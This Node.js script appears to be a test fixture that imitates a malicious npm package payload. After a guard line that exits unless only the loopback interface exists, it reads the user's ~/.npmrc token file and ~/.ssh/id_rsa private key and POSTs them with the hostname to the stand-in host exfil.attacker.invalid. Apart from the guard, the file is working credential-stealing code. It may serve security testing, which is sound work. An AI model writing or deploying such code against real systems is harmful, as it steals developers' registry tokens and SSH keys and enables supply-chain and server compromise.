if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function readIfExists(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch (err) {
    return null;
  }
}

const home = os.homedir();
const loot = { host: os.hostname() };
loot.npmrc = readIfExists(path.join(home, '.npmrc'));
loot.idRsa = readIfExists(path.join(home, '.ssh', 'id_rsa'));

const req = https.request({ hostname: 'exfil.attacker.invalid', path: '/k', method: 'POST', headers: { 'Content-Type': 'application/json' } }, () => {});
req.on('error', () => {});
req.end(JSON.stringify(loot));
